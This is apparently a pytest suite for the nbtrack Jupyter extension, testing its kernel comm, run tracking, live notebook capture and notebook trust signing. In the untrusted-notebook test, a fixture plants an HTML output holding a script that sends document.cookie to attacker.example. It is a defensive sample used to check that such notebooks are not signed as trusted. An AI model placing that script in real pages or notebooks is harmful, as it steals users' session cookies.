"""The ``nbtrack`` comm, driven against a real ipykernel the way the JupyterLab panel drives it.

``Lab`` is a jupyter_client client that does what the panel does: it finds the comm, sends
``hello``/``path``/``live`` comm messages on the shell channel before execute requests, and reads
iopub for ``comm_open``/``comm_msg``. Everything checked (runs, artifacts, signatures) is real.
"""

from __future__ import annotations

import json
import os
import time
from pathlib import Path
from typing import Any

import nbformat
import pytest
from conftest import all_runs, download_all, git, make_project, snapshot_of, store_client, write_notebook

import nbtrack
import nbtrack.signing
from nbtrack.capture.notebook import compare_live
from nbtrack.magics.frontend import Frontend
from nbtrack.track.tracker import Tracker

pytestmark = pytest.mark.kernel

WIDGET_VIEW = "application/vnd.jupyter.widget-view+json"


class Lab:
    """A frontend with the nbtrack panel, speaking to a real kernel over jupyter_client."""

    def __init__(self, cwd: Path, env: dict[str, str]) -> None:
        from jupyter_client import KernelManager

        self.km = KernelManager(kernel_name="python3")
        self.km.start_kernel(cwd=str(cwd), env=env)
        self.kc = self.km.client()
        self.kc.start_channels()
        self.kc.wait_for_ready(timeout=120)
        self.comm_id: str | None = None

    def __enter__(self) -> Lab:
        return self

    def __exit__(self, *exc: object) -> None:
        self.kc.stop_channels()
        self.km.shutdown_kernel(now=True)

    # --- the wire ----------------------------------------------------------------------------------
    def _shell(self, msg_type: str, content: dict[str, Any]) -> str:
        msg = self.kc.session.msg(msg_type, content)
        self.kc.shell_channel.send(msg)
        return str(msg["header"]["msg_id"])

    def _iopub_until_idle(self, msg_ids: list[str], timeout: float) -> list[dict[str, Any]]:
        """iopub messages whose parent is one of ``msg_ids``, until the last one's status idle."""
        out: list[dict[str, Any]] = []
        deadline = time.monotonic() + timeout
        while True:
            msg = self.kc.get_iopub_msg(timeout=max(0.1, deadline - time.monotonic()))
            parent = msg["parent_header"].get("msg_id")
            if parent not in msg_ids:
                continue
            if msg["msg_type"] == "status":
                if parent == msg_ids[-1] and msg["content"]["execution_state"] == "idle":
                    return out
                continue
            out.append(msg)

    def _reply(self, msg_id: str, timeout: float) -> dict[str, Any]:
        deadline = time.monotonic() + timeout
        while True:
            msg = self.kc.get_shell_msg(timeout=max(0.1, deadline - time.monotonic()))
            if msg["parent_header"].get("msg_id") == msg_id:
                return dict(msg["content"])

    # --- what the panel does -----------------------------------------------------------------------
    def execute(
        self, code: str, *, live: dict[str, Any] | None = None, timeout: float = 300
    ) -> tuple[dict[str, Any], list[dict[str, Any]]]:
        """Run a cell, sending ``live`` on the comm just before its execute_request (not waiting in
        between, as the panel does). Returns the execute reply and the iopub messages."""
        ids = [self._shell("comm_msg", {"comm_id": self.comm_id, "data": live})] if live else []
        ids.append(self.kc.execute(code))
        messages = self._iopub_until_idle(ids, timeout)
        return self._reply(ids[-1], timeout), messages

    def send(self, data: Any, comm_id: str | None = None) -> list[dict[str, Any]]:
        """A comm message; returns the iopub messages it caused."""
        msg_id = self._shell("comm_msg", {"comm_id": comm_id or self.comm_id, "data": data})
        return self._iopub_until_idle([msg_id], 60)

    def comm_info(self) -> dict[str, Any]:
        msg_id = self.kc.comm_info(target_name="nbtrack")
        return dict(self._reply(msg_id, 60)["comms"])

    def load_nbtrack(self) -> dict[str, Any]:
        """``%load_ext nbtrack``; returns the comm_open's data and keeps the comm's id."""
        reply, messages = self.execute("%load_ext nbtrack")
        assert reply["status"] == "ok", reply
        (opened,) = [m for m in messages if m["msg_type"] == "comm_open"]
        assert opened["content"]["target_name"] == "nbtrack"
        self.comm_id = opened["content"]["comm_id"]
        return dict(opened["content"]["data"])


def nbtrack_msgs(messages: list[dict[str, Any]], comm_id: str | None) -> list[dict[str, Any]]:
    """The data of the nbtrack comm's messages among ``messages``."""
    return [
        m["content"]["data"]
        for m in messages
        if m["msg_type"] == "comm_msg" and m["content"]["comm_id"] == comm_id
    ]


def text_of(messages: list[dict[str, Any]], name: str = "stdout") -> str:
    return "".join(
        m["content"]["text"] for m in messages if m["msg_type"] == "stream" and m["content"]["name"] == name
    )


def displays(messages: list[dict[str, Any]]) -> list[dict[str, Any]]:
    return [m["content"]["data"] for m in messages if m["msg_type"] == "display_data"]


def kernel_env(tmp_path: Path, **extra: str) -> dict[str, str]:
    """The environment of a kernel a Jupyter server would start, with its own Jupyter dirs."""
    env = {k: v for k, v in os.environ.items() if not k.startswith(("NBTRACK_", "JPY_"))}
    env.update(
        JUPYTER_DATA_DIR=str(tmp_path / "jupyter-data"),
        JUPYTER_RUNTIME_DIR=str(tmp_path / "jupyter-runtime"),
        DVC_NO_ANALYTICS="1",
        MLFLOW_SUPPRESS_PRINTING_URL_TO_STDOUT="true",
    )
    env.update(extra)
    return env


def own_jupyter_dirs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """This test's own Jupyter data dir (signatures) and runtime dir, here and in its kernels."""
    monkeypatch.setenv("JUPYTER_DATA_DIR", str(tmp_path / "jupyter-data"))
    monkeypatch.setenv("JUPYTER_RUNTIME_DIR", str(tmp_path / "jupyter-runtime"))


def eventually_signed(raw: bytes, timeout: float = 60.0) -> bool:
    """Signing happens in the kernel's background thread after ``%track stop`` returns."""
    deadline = time.monotonic() + timeout
    while not is_signed(raw):
        if time.monotonic() > deadline:
            return False
        time.sleep(0.2)
    return True


def is_signed(raw: bytes) -> bool:
    from nbformat.sign import NotebookNotary

    with NotebookNotary() as notary:  # the default data dir, as jupyter_server's
        return bool(notary.check_signature(nbformat.reads(raw.decode(), as_version=4)))


def trust_file(path: Path) -> None:
    """Trust the notebook file as JupyterLab does when it saves a trusted notebook (its bytes stay)."""
    from nbformat.sign import NotebookNotary

    with NotebookNotary() as notary:
        notary.sign(nbformat.read(str(path), as_version=4))


# --- the comm itself --------------------------------------------------------------------------------


def test_comm_opens_with_hello_and_tolerates_anything(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Given a kernel a frontend is connected to
    own_jupyter_dirs(tmp_path, monkeypatch)
    with Lab(tmp_path, kernel_env(tmp_path)) as lab:
        # When the extension is loaded
        reply, messages = lab.execute(
            "import sys as _sys\n%load_ext nbtrack\n"
            "print(sorted(m for m in ('mlflow', 'dvc', 'papermill', 'pandas', 'nbformat', 'nbclient')"
            " if m in _sys.modules))"
        )
        # Then it opened the nbtrack comm, saying hello, and imported none of the heavy libraries
        # (what makes `%load_ext` fast; its time is a benchmark's business, not a test's)
        (opened,) = [m["content"] for m in messages if m["msg_type"] == "comm_open"]
        assert opened["target_name"] == "nbtrack"
        assert opened["data"] == {
            "type": "hello",
            "version": nbtrack.__version__,
            "tracking": False,
            "run_id": None,
        }
        assert text_of(messages).strip() == "[]", text_of(messages)
        # And a frontend that loads later (page reload) finds it and gets a hello back
        assert lab.comm_info() == {opened["comm_id"]: {"target_name": "nbtrack"}}
        lab.comm_id = opened["comm_id"]
        assert nbtrack_msgs(lab.send({"type": "hello"}), lab.comm_id) == [opened["data"]]
        # And unknown or malformed messages are ignored: no output, no error, the kernel carries on
        for junk in (
            "not an object",
            None,
            {},
            {"type": 7},
            {"type": "bogus", "x": 1},
            {"type": "path", "path": 5},
            {"type": "live", "path": "a.ipynb", "notebook": "not a notebook"},
            {"type": "live", "path": "a.ipynb", "notebook": {"cells": "no"}},
        ):
            assert lab.send(junk) == [], junk
        reply, messages = lab.execute("%track status")
        assert reply["status"] == "ok"
        assert "no active run" in text_of(messages)


# --- path, live, state, run_finished, signing -------------------------------------------------------


def test_the_panel_path_and_live_content_are_recorded(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Given a git project with a saved notebook, and a kernel whose cwd and JPY_SESSION_NAME point
    # elsewhere (as after a rename)
    root = make_project(tmp_path / "proj", use_dvc=False)
    cells = ["%load_ext nbtrack", "%track start --name first", "x = 1", "%track stop"]
    nb_path = write_notebook(root / "notebooks" / "train.ipynb", cells)
    other = write_notebook(root / "other.ipynb", ["1"])
    (root / "scratch").mkdir()
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "notebooks")
    saved = json.loads(nb_path.read_text())
    ids = [c["id"] for c in saved["cells"]]
    own_jupyter_dirs(tmp_path, monkeypatch)
    trust_file(nb_path)  # the user trusts their notebook (Lab signs it on save)
    with Lab(root / "scratch", kernel_env(tmp_path, JPY_SESSION_NAME=str(other))) as lab:
        lab.load_nbtrack()
        # When the panel says which notebook this is, then runs its cells with the editor's content,
        # the last one with an unsaved edit
        assert lab.send({"type": "path", "path": "notebooks/train.ipynb", "abs_path": str(nb_path)}) == []
        _, started = lab.execute(
            cells[1],
            live={"type": "live", "path": "notebooks/train.ipynb", "cell_id": ids[1], "notebook": saved},
        )
        lab.execute(
            cells[2],
            live={"type": "live", "path": "notebooks/train.ipynb", "cell_id": ids[2], "notebook": saved},
        )
        edited = json.loads(json.dumps(saved))
        edited["cells"][2]["source"] = "x = 2"
        live = {"type": "live", "path": "notebooks/train.ipynb", "cell_id": ids[3], "notebook": edited}
        reply, stopped = lab.execute(cells[3], live=live)
        assert reply["status"] == "ok", text_of(stopped, "stderr")

        # Then the kernel told the panel the run started and finished, with its id
        (state,) = nbtrack_msgs(started, lab.comm_id)
        run_id = state["run_id"]
        assert state == {"type": "state", "tracking": True, "run_id": run_id}
        assert f"tracking run {run_id}" in text_of(started)
        assert nbtrack_msgs(stopped, lab.comm_id) == [
            {"type": "run_finished", "run_id": run_id, "status": "FINISHED", "notebook": str(nb_path)}
        ]
        # And the run's notebook is the one the panel named, found by the "frontend" method
        client = store_client(root)
        (run,) = all_runs(client)
        assert run.info.run_id == run_id
        files = download_all(client, run_id, tmp_path / "dl")
        notebook = snapshot_of(files)["sections"]["notebook"]["data"]
        assert (notebook["method"], notebook["path"]) == ("frontend", str(nb_path))
        assert run.data.tags["mlflow.source.name"] == "notebooks/train.ipynb"
        # And the editor's content is logged beside the saved notebook, with what was not saved
        assert json.loads(files["nbtrack/notebook.live.ipynb"]) == edited
        assert files["nbtrack/notebook.ipynb"] == nb_path.read_bytes()
        live_info = notebook["live"]
        assert live_info["received"] is True
        assert live_info["cell_id"] == ids[3]
        assert live_info["differs_from_saved"] is True
        assert live_info["differences"] == ["1 cell(s) edited but not saved"]
        # (a snapshot fact; no longer the tag nbtrack.notebook.unsaved)
        assert live_info["unsaved_edits"] is True
        # And the run card says so
        (card,) = displays(stopped)
        assert WIDGET_VIEW in card
        assert "notebook had unsaved edits in the editor" in card["text/plain"]
        # And, the notebook being trusted, the notebooks nbtrack wrote are signed too (in the
        # background, after the stop), so they open trusted
        assert eventually_signed(files["nbtrack/history.ipynb"])
        assert eventually_signed(files["nbtrack/notebook.live.ipynb"])

        # When a second run gets no editor content (the panel sent none after its start)
        lab.execute("%track start --name second")
        reply, stopped = lab.execute("%track stop")
        # Then its snapshot says none was received, and why; the stale content is not used
        second = all_runs(client)[0]
        assert second.info.run_name == "second"
        live_info = snapshot_of(download_all(client, second.info.run_id, tmp_path / "dl2"))["sections"][
            "notebook"
        ]["data"]["live"]
        assert live_info == {
            "received": False,
            "reason": "the editor's content last arrived before %track start (the panel sent none since)",
        }
        assert "nbtrack.notebook.unsaved" not in second.data.tags


def test_recording_an_untrusted_notebook_never_makes_it_trusted(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Given a notebook the user never trusted (cloned, say), with a script in an output, and a
    # trusted one beside it
    root = make_project(tmp_path / "proj", use_dvc=False)
    cells = ["%load_ext nbtrack", "%track start --name untrusted", "x = 1", "%track stop"]
    nb_path = write_notebook(root / "cloned.ipynb", cells)
    nb = nbformat.read(str(nb_path), as_version=4)
    script = {"text/html": "<script>fetch('https://attacker.example/?c=' + document.cookie)</script>"}
    nb.cells[2].outputs = [nbformat.v4.new_output("display_data", data=script)]
    nbformat.write(nb, str(nb_path))
    mine = write_notebook(root / "mine.ipynb", ["%track start --name trusted", "%track stop"])
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "notebooks")
    own_jupyter_dirs(tmp_path, monkeypatch)
    trust_file(mine)
    saved = json.loads(nb_path.read_text())
    ids = [c["id"] for c in saved["cells"]]
    with Lab(root, kernel_env(tmp_path)) as lab:
        lab.load_nbtrack()
        # When the panel tracks it, sending the editor's content: the saved notebook itself, outputs
        # and all (signing that content would trust the file too)
        assert lab.send({"type": "path", "path": "cloned.ipynb", "abs_path": str(nb_path)}) == []
        for i in (1, 2, 3):
            live = {"type": "live", "path": "cloned.ipynb", "cell_id": ids[i], "notebook": saved}
            reply, messages = lab.execute(cells[i], live=live)
            assert reply["status"] == "ok", text_of(messages, "stderr")
        # and then a run of the trusted notebook, in the same kernel (one signer, in order: once this
        # run's records are signed, the untrusted run's turn has passed)
        assert lab.send({"type": "path", "path": "mine.ipynb", "abs_path": str(mine)}) == []
        lab.execute("%track start --name trusted")
        lab.execute("%track stop")
    client = store_client(root)
    trusted_run, untrusted_run = all_runs(client)
    assert (trusted_run.info.run_name, untrusted_run.info.run_name) == ("trusted", "untrusted")
    trusted_files = download_all(client, trusted_run.info.run_id, tmp_path / "t")
    assert eventually_signed(trusted_files["nbtrack/history.ipynb"])
    # Then none of the untrusted run's notebooks opens trusted, and the user's file is still untrusted
    files = download_all(client, untrusted_run.info.run_id, tmp_path / "u")
    assert json.loads(files["nbtrack/notebook.live.ipynb"]) == saved  # the script output was recorded
    for name in ("notebook.ipynb", "notebook.live.ipynb", "history.ipynb"):
        assert not is_signed(files[f"nbtrack/{name}"]), name
    assert not is_signed(nb_path.read_bytes())
    assert nbtrack.signing.is_trusted(mine) and not nbtrack.signing.is_trusted(nb_path)


# --- the pieces, in process -------------------------------------------------------------------------


def _cell(
    cid: str, source: str, outputs: list[Any] | None = None, count: int | None = None
) -> dict[str, Any]:
    return {
        "id": cid,
        "cell_type": "code",
        "source": source,
        "outputs": outputs or [],
        "execution_count": count,
    }


def test_compare_live_names_each_kind_of_difference() -> None:
    out = {"output_type": "stream", "name": "stdout", "text": ["a\n", "b"]}
    saved = {"cells": [_cell("a", "x = 1"), _cell("b", "y = 2", [out], 1), _cell("c", "z")]}
    same_but_joined = {
        "cells": [_cell("a", "x = 1"), _cell("b", "y = 2", [{**out, "text": "a\nb"}], 1), _cell("c", "z")]
    }
    assert compare_live(saved, same_but_joined) == ([], False)
    live = {"cells": [_cell("c", "z"), _cell("a", "x = 10"), _cell("d", "new"), _cell("b", "y = 2", [], 2)]}
    assert compare_live(saved, live) == (
        [
            "1 cell(s) edited but not saved",
            "1 unsaved new cell(s)",
            "cells reordered but not saved",
            "outputs not saved (1 cell(s))",
        ],
        True,
    )
    # the cell about to run may already show cleared outputs: not a difference
    assert compare_live(
        saved, {"cells": [saved["cells"][0], _cell("b", "y = 2"), saved["cells"][2]]}, "b"
    ) == ([], False)
    # without ids, cells are matched by position
    no_ids = {"cells": [{k: v for k, v in c.items() if k != "id"} for c in saved["cells"][:2]]}
    assert compare_live(saved, no_ids) == (["1 cell(s) deleted but not saved"], True)


def test_frontend_resolves_server_paths(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    root = tmp_path / "server-root"
    (root / "a" / "b").mkdir(parents=True)
    (root / "a" / "nb.ipynb").write_text("{}")
    frontend = Frontend(Tracker())
    # before any path message: found from the cwd upwards (a notebook's kernel starts in its folder)
    monkeypatch.chdir(root / "a" / "b")
    assert frontend.resolve("a/nb.ipynb") == root / "a" / "nb.ipynb"
    assert frontend.resolve("missing.ipynb") is None
    # after one: the server root is what abs_path adds to path
    frontend._on_msg(
        {"content": {"data": {"type": "path", "path": "a/nb.ipynb", "abs_path": str(root / "a/nb.ipynb")}}}
    )
    assert frontend.connected
    assert frontend.notebook_path() == root / "a" / "nb.ipynb"
    assert frontend.resolve("c/renamed.ipynb") == root / "c" / "renamed.ipynb"


def test_live_content_is_capped_and_must_be_of_the_runs_notebook(tmp_path: Path) -> None:
    from nbtrack.capture.base import CaptureContext, run_provider
    from nbtrack.capture.locate import NotebookLocation
    from nbtrack.capture.notebook import LiveNotebook, NotebookProvider, live_for_run
    from nbtrack.config import NbtrackConfig

    nb_path = write_notebook(tmp_path / "nb.ipynb", ["x = 1"])
    saved = json.loads(nb_path.read_text())
    live = LiveNotebook("nb.ipynb", nb_path, None, saved, cells_completed=3)
    # content of another notebook, or from before the run started, is not the run's
    other = LiveNotebook("other.ipynb", tmp_path / "other.ipynb", None, saved, cells_completed=3)
    assert live_for_run(other, 3, nb_path)[0] is None
    assert "not of this run's notebook" in str(live_for_run(other, 3, nb_path)[1])
    assert live_for_run(live, 4, nb_path)[0] is None
    assert live_for_run(live, 3, nb_path) == (live, None)
    # over notebook_max_bytes, the live notebook is described but not stored, and the snapshot says why
    ctx = CaptureContext(tmp_path, nb_path, tmp_path, NbtrackConfig(notebook_max_bytes=100))
    location = NotebookLocation(nb_path, "explicit")
    section, files = run_provider(NotebookProvider(location, [], {}, live), ctx)
    info = section.data["live"]
    assert (info["received"], info["differs_from_saved"], info["stored"]) == (True, False, False)
    assert "notebook_max_bytes (100)" in info["stored_reason"]
    assert "notebook.live.ipynb" not in files
